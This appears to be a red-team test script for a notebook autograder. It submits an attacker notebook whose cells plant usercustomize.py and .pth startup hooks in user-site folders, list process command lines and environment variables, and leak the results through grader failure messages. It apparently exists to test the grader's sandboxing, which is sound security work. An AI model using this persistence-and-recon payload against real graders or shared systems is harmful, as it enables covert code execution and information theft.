"""a02 (recon, ps2): what do the kernel, the observer's child and the ranks see at interpreter start-up?
Plants a usercustomize.py / .pth in every writable user-site folder, from the kernel, from the ranks of the first
distributed check and from the observer's child, logging to a file in /tmp when imported, then reports
(quoted back by the judges' failure messages) whether any later interpreter (a fork server exec'd for the
observer, a spawned rank) ran it. Honest control: the solution."""
import os, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common14 import course, grade, show, honest_nb, notebook, outputs, cleanup  # noqa: E402

DEST = "/tmp/attack14-a02"
PAYLOAD = r'''
def _a14_plant_and_report(tag):
    import os, sys, site, json
    log = "/tmp/.a14log"
    try:
        with open(log, "a") as fh:
            fh.write(f"{tag} pid={os.getpid()} ppid={os.getppid()} cmd={open('/proc/self/cmdline').read().replace(chr(0), ' ')[:200]}\n")
    except OSError as e:
        pass
    planted = []
    for d in {site.getusersitepackages(), os.path.join(os.environ.get("HOME", "/nonexistent"), ".local/lib/python%d.%d/site-packages" % sys.version_info[:2])}:
        try:
            os.makedirs(d, exist_ok=True)
            with open(os.path.join(d, "usercustomize.py"), "w") as fh:
                fh.write("import os\nopen('/tmp/.a14log','a').write('USERCUSTOMIZE ran in pid %d: %s\\n' % (os.getpid(), open('/proc/self/cmdline').read().replace(chr(0),' ')[:300]))\n")
            with open(os.path.join(d, "a14.pth"), "w") as fh:
                fh.write("import os; open('/tmp/.a14log','a').write('PTH ran in pid %d\\n' % os.getpid())\n")
            planted.append(d)
        except OSError as e:
            planted.append(f"{d}: {e}")
    procs = []
    for p in os.listdir("/proc"):
        if p.isdigit():
            try:
                procs.append(p + ":" + open(f"/proc/{p}/cmdline").read().replace(chr(0), " ")[:160])
            except OSError:
                pass
    info = dict(tag=tag, uid=os.getuid(), home=os.environ.get("HOME"), cwd=os.getcwd(), no_user_site=sys.flags.no_user_site,
                isolated=sys.flags.isolated, ignore_env=sys.flags.ignore_environment, enable_user_site=site.ENABLE_USER_SITE,
                user_site=site.getusersitepackages(), path=sys.path, planted=planted,
                writable=[d for d in ("/tmp", os.environ.get("HOME", "/x"), os.getcwd(), "/dev/shm") if os.access(d, os.W_OK)],
                env=sorted(os.environ), procs=procs, log=open(log).read() if os.path.exists(log) else None)
    return json.dumps(info)
'''


def mutate(nb):
    for c in nb.cells:
        gid = c.metadata.get("nbgrader", {}).get("grade_id")
        if gid == "setup":
            c.source += "\n" + PAYLOAD + "\nprint(_a14_plant_and_report('kernel'))\n"
        elif gid == "average_gradients":
            c.source = PAYLOAD + """
def average_gradients(model):
    global _A14
    r = _a14_plant_and_report('rank')
    for p in model.parameters():
        if p.grad is not None:
            p.grad = torch.zeros_like(p)
    raise RuntimeError('A14REPORT ' + r)
"""
        elif gid == "shard_indices":
            c.source = PAYLOAD + """
def shard_indices(num_items, rank, world_size, epoch=0, seed=0, shuffle=True, drop_last=False):
    return 'A14REPORT ' + _a14_plant_and_report('observer-child')
"""
        elif gid == "train_ddp":
            c.source = PAYLOAD + """
def train_ddp(model_fn, dataset, global_batch_size, num_epochs, lr, checkpoint_path, seed=0):
    raise RuntimeError('A14REPORT ' + _a14_plant_and_report('train_ddp-rank'))
"""


sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))))
from tools.submissions import fill, source_and_release  # noqa: E402
s, r = source_and_release("ps2_ddp")
dest = course(DEST, {"alice_honest": fill(r, s, {}), "mallory": notebook(mutate=mutate, assignment="ps2_ddp")}, "ps2_ddp")
grade(dest)
show(dest)
import nbformat  # noqa: E402
nb = nbformat.read(os.path.join(dest, "autograded", "mallory", "ps2_ddp", "ps2_ddp.ipynb"), 4)
for c in nb.cells:
    for o in c.get("outputs", []):
        t = o.get("text") or o.get("evalue") or str(o.get("data", ""))
        if "A14REPORT" in t or "tag" in t or "USERCUSTOMIZE" in t:
            print("---", c.metadata.get("nbgrader", {}).get("grade_id"), o.get("output_type"))
            print(t[:6000])
cleanup(DEST)
